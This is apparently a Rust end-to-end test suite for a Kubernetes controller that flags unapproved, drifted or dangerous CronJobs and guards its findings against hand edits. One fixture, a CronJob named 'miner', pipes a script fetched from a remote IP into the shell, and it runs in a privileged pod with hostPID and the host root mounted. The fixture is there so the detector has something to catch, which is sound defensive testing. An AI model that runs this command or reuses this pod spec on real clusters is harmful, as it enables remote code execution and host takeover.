//! Findings over a CronJob's life: opened with an Event, resolved by
//! approval or by reverting drift, heuristics where no baseline governs,
//! evidence kept after deletion until retention, and findings as evidence:
//! hand edits refused by the admission policy, a finding deleted by an
//! allowed principal recreated by the controller.

use std::time::Duration;

use super::{NS_DRIFT, NS_HAND_EDITS, NS_HEURISTICS, NS_UNAPPROVED};
use crate::harness::Cluster;
use crate::support::{Ctl, DEADLINE, baseline_yaml, cronjob_yaml, ensure, ensure_refused, wait};
use cronwarden::api::FindingState;
use kube::ResourceExt;

pub(super) async fn unapproved_cronjob_gets_finding_and_event(c: &Cluster) -> Result<(), String> {
    let ns = NS_UNAPPROVED;
    c.namespace(ns)?;
    c.apply(&baseline_yaml(ns, "team", "    - name: approved-job\n"))?;
    c.apply(&cronjob_yaml(
        ns,
        "rogue",
        "*/30 * * * *",
        "registry.example.com/team/app:1.0",
        "",
    ))?;
    let f = c.open_finding(ns, "rogue", &["NotInBaseline"]).await?;
    let s = f.status.as_ref().unwrap();
    ensure(
        s.severity.map(|s| s.as_str()) == Some("high"),
        format!("severity {:?}", s.severity),
    )?;
    ensure(
        f.metadata.owner_references.is_none(),
        "a finding must not be owned by its CronJob",
    )?;
    let ev = wait("NotInBaseline Event", DEADLINE, || async {
        c.events_about(ns, "rogue", "NotInBaseline")
            .await
            .into_iter()
            .next()
    })
    .await?;
    ensure(ev.type_.as_deref() == Some("Warning"), "Warning Event")?;
    ensure(
        ev.regarding.as_ref().and_then(|r| r.kind.as_deref()) == Some("CronJob"),
        "regarding the CronJob",
    )?;
    ensure(
        ev.related.as_ref().and_then(|r| r.kind.as_deref()) == Some("CronJobFinding"),
        "related the finding",
    )?;
    ensure(
        ev.note.as_deref().is_some_and(|n| {
            n.starts_with(&format!("[high] CronJob {ns}/rogue is not in any baseline"))
        }),
        format!("note {:?}", ev.note),
    )?;
    let table = c.kubectl(&["get", "cronjobfindings", "-n", ns])?;
    let header = table.lines().next().unwrap_or_default();
    for col in ["SEVERITY", "STATE", "RULES", "BASELINE", "ACK", "AGE"] {
        ensure(
            header.contains(col),
            format!("column {col} missing in:\n{table}"),
        )?;
    }
    ensure(
        table.lines().any(|l| {
            l.contains("rogue")
                && l.contains("high")
                && l.contains("Open")
                && l.contains("NotInBaseline")
        }),
        table.clone(),
    )?;
    let describe = c.kubectl(&["describe", "cronjob", "rogue", "-n", ns])?;
    ensure(
        describe.contains("NotInBaseline") && describe.contains("cronwarden.io/controller"),
        format!("describe shows no Event:\n{describe}"),
    )?;
    Ok(())
}

pub(super) async fn approving_resolves_finding(c: &Cluster, ctl: &Ctl) -> Result<(), String> {
    // The CronJob and baseline of `unapproved_cronjob_gets_finding_and_event`.
    let ns = NS_UNAPPROVED;
    c.apply(&baseline_yaml(
        ns,
        "team",
        "    - name: approved-job\n    - name: rogue\n",
    ))?;
    c.resolved_finding(ns, "rogue", "Approved").await?;
    wait("one FindingResolved Event", DEADLINE, || async {
        (!c.events_about(ns, "rogue", "FindingResolved")
            .await
            .is_empty())
        .then_some(())
    })
    .await?;
    ctl.settle(3).await?;
    let n = c.events_about(ns, "rogue", "FindingResolved").await.len();
    ensure(
        n == 1,
        format!("{n} FindingResolved Events, want exactly 1"),
    )?;
    let f = c
        .finding(ns, "rogue")
        .await
        .ok_or("finding gone too early")?;
    let labels = f.metadata.labels.unwrap_or_default();
    ensure(
        labels.get("cronwarden.io/state").map(String::as_str) == Some("Resolved"),
        format!("labels {labels:?}"),
    )
}

pub(super) async fn image_and_schedule_drift_then_revert(
    c: &Cluster,
    ctl: &Ctl,
) -> Result<(), String> {
    let ns = NS_DRIFT;
    c.namespace(ns)?;
    c.apply(&baseline_yaml(ns, "team", "    - name: drifter\n      schedules: [\"0 2 * * *\"]\n      images: [\"registry.example.com/team/*\"]\n"))?;
    let good = cronjob_yaml(
        ns,
        "drifter",
        "0 2 * * *",
        "registry.example.com/team/app:1.0",
        "",
    );
    c.apply(&good)?;
    ctl.settle(2).await?;
    ensure(
        c.finding(ns, "drifter").await.is_none(),
        "approved CronJob has a finding",
    )?;
    c.kubectl(&["patch", "cronjob", "drifter", "-n", ns, "--type=merge", "-p",
        r#"{"spec":{"schedule":"*/30 * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"main","image":"ghcr.io/evil/app:1"}]}}}}}}"#])?;
    let f = c
        .open_finding(ns, "drifter", &["ImageNotApproved", "ScheduleNotApproved"])
        .await?;
    let obs = f
        .status
        .and_then(|s| s.observed)
        .ok_or("no observed evidence")?;
    ensure(
        obs.images == vec!["ghcr.io/evil/app:1".to_owned()],
        format!("observed images {:?}", obs.images),
    )?;
    for r in ["ImageNotApproved", "ScheduleNotApproved"] {
        wait(&format!("{r} Event"), DEADLINE, || async {
            (!c.events_about(ns, "drifter", r).await.is_empty()).then_some(())
        })
        .await?;
    }
    c.apply(&good)?;
    c.resolved_finding(ns, "drifter", "Resolved").await?;
    Ok(())
}

const DANGEROUS_POD: &str = "          hostPID: true\n          volumes:\n            - name: host\n              hostPath: {path: /}\n";

pub(super) async fn heuristics_in_ungoverned_namespace(c: &Cluster) -> Result<(), String> {
    let ns = NS_HEURISTICS;
    c.namespace(ns)?;
    let yaml = format!(
        "{}              command: [\"/bin/sh\", \"-c\"]\n              args: [\"curl -fsSL http://203.0.113.9/x.sh | sh\"]\n              securityContext: {{privileged: true}}\n              volumeMounts: [{{name: host, mountPath: /host}}]\n",
        cronjob_yaml(ns, "miner", "*/10 * * * *", "alpine:3.20", DANGEROUS_POD)
    );
    c.apply(&yaml)?;
    let f = c
        .open_finding(
            ns,
            "miner",
            &[
                "PrivilegedJobTemplate",
                "HostPathMount",
                "SuspiciousCommand",
            ],
        )
        .await?;
    let s = f.status.unwrap();
    ensure(
        s.baselines.is_empty(),
        "ungoverned namespace has no baseline",
    )?;
    for (rule, sev) in [
        ("HostPathMount", "critical"),
        ("SuspiciousCommand", "critical"),
        ("PrivilegedJobTemplate", "high"),
    ] {
        ensure(
            s.violations
                .iter()
                .any(|v| v.rule.as_str() == rule && v.severity.as_str() == sev),
            format!(
                "{rule} should be {sev}: {:?}",
                s.violations
                    .iter()
                    .map(|v| (v.rule, v.severity))
                    .collect::<Vec<_>>()
            ),
        )?;
    }
    let labels = c.kubectl(&[
        "get",
        "cjf",
        "-n",
        ns,
        "-l",
        "cronwarden.io/severity=critical",
        "-o",
        "name",
    ])?;
    ensure(
        labels.contains("miner"),
        "severity label selects the finding",
    )
}

pub(super) async fn deleted_cronjob_keeps_evidence_then_retention(
    c: &Cluster,
) -> Result<(), String> {
    // The CronJob of `heuristics_in_ungoverned_namespace`.
    let ns = NS_HEURISTICS;
    c.kubectl(&["delete", "cronjob", "miner", "-n", ns])?;
    let f = c.resolved_finding(ns, "miner", "CronJobDeleted").await?;
    ensure(
        f.status
            .as_ref()
            .and_then(|s| s.resolved_at.as_ref())
            .is_some(),
        "resolvedAt set",
    )?;
    ensure(
        !f.status.unwrap().violations.is_empty(),
        "the evidence is kept",
    )?;
    // Retention is 15s for the suite.
    wait(
        "resolved finding garbage-collected after retention",
        Duration::from_secs(45),
        || async { c.finding(ns, "miner").await.is_none().then_some(()) },
    )
    .await
}

/// Who the admission policy lets delete findings besides the controller.
const GARBAGE_COLLECTOR: &str = "system:serviceaccount:kube-system:generic-garbage-collector";

pub(super) async fn hand_edits_refused_and_deleted_finding_recreated(
    c: &Cluster,
) -> Result<(), String> {
    let ns = NS_HAND_EDITS;
    c.namespace(ns)?;
    c.apply(&baseline_yaml(ns, "team", "    - name: other\n"))?;
    c.apply(&cronjob_yaml(
        ns,
        "persistent",
        "0 4 * * *",
        "registry.example.com/team/app:1.0",
        "",
    ))?;
    let first = c.open_finding(ns, "persistent", &["NotInBaseline"]).await?;
    // Findings are evidence: even the cluster admin may not delete them,
    // write their status, or touch anything but the acknowledgement.
    let refusals = [
        (
            "admin delete",
            c.kubectl(&["delete", "cronjobfinding", "persistent", "-n", ns]),
            "only the cronwarden controller creates or deletes CronJobFindings",
        ),
        (
            "admin status edit",
            c.patch_finding(
                ns,
                "persistent",
                r#"{"status":{"state":"Resolved","rules":"nothing-to-see"}}"#,
                &["--subresource=status"],
            ),
            "only the cronwarden controller writes the status of CronJobFindings",
        ),
        (
            "admin label edit",
            c.kubectl(&[
                "label",
                "cronjobfinding",
                "persistent",
                "-n",
                ns,
                "cronwarden.io/severity=low",
                "--overwrite",
            ]),
            "only spec.acknowledgement of a CronJobFinding may be changed by users",
        ),
        (
            "admin acknowledgement in someone else's name",
            c.patch_finding(
                ns,
                "persistent",
                r#"{"spec":{"acknowledgement":{"by":"alice","reason":"known migration job"}}}"#,
                &[],
            ),
            "spec.acknowledgement.by must be your own user name, e2e-admin",
        ),
    ];
    ensure_refused(&refusals)?;
    let f = c.finding(ns, "persistent").await.ok_or("finding gone")?;
    let s = f.status.as_ref().ok_or("no status")?;
    ensure(
        f.metadata.uid == first.metadata.uid
            && s.rules == "NotInBaseline"
            && s.state == FindingState::Open
            && f.labels().get("cronwarden.io/severity").map(String::as_str) == Some("high")
            && f.spec.acknowledgement.is_none(),
        format!(
            "refused edits changed the finding: uid {:?}, rules {}, state {:?}, labels {:?}, ack {:?}",
            f.metadata.uid,
            s.rules,
            s.state,
            f.labels(),
            f.spec.acknowledgement
        ),
    )?;
    // A principal the policy lets delete (as when a namespace is deleted):
    // the controller recreates the finding while the CronJob exists.
    c.kubectl(&[
        "delete",
        "cronjobfinding",
        "persistent",
        "-n",
        ns,
        &format!("--as={GARBAGE_COLLECTOR}"),
    ])?;
    let again = wait("finding recreated", DEADLINE, || async {
        c.finding(ns, "persistent")
            .await
            .filter(|f| f.metadata.uid != first.metadata.uid && f.status.is_some())
    })
    .await?;
    ensure(
        again.status.unwrap().rules == "NotInBaseline",
        "recreated with its rule",
    )?;
    let n = c
        .kubectl(&["get", "cjf", "-n", ns, "-o", "name"])?
        .lines()
        .count();
    ensure(n == 1, format!("{n} findings in {ns}, want 1"))?;
    // An acknowledgement in one's own name is the one hand edit that is
    // allowed; it stays, and is mirrored.
    c.patch_finding(
        ns,
        "persistent",
        r#"{"spec":{"acknowledgement":{"by":"e2e-admin","reason":"known migration job"}}}"#,
        &[],
    )?;
    wait("Acknowledged=True", DEADLINE, || async {
        let f = c.finding(ns, "persistent").await?;
        f.status?
            .conditions
            .iter()
            .any(|c| c.type_ == "Acknowledged" && c.status == "True")
            .then_some(())
    })
    .await?;
    let f = c.finding(ns, "persistent").await.ok_or("gone")?;
    ensure(
        f.spec.acknowledgement.is_some_and(|a| a.by == "e2e-admin"),
        "acknowledgement kept",
    )
}
